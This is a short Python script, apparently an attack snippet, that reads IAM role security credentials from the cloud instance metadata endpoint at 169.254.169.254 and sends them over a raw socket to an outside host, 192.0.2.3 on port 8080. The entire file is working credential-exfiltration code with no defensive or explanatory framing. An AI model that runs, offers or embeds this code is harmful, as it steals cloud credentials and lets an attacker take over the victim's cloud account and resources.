import http.client
import socket

meta = http.client.HTTPConnection("169.254.169.254", 80)
meta.request("GET", "/latest/meta-data/iam/security-credentials/role")
secret = meta.getresponse().read()
out = socket.socket()
out.connect(("192.0.2.3", 8080))
out.sendall(secret)
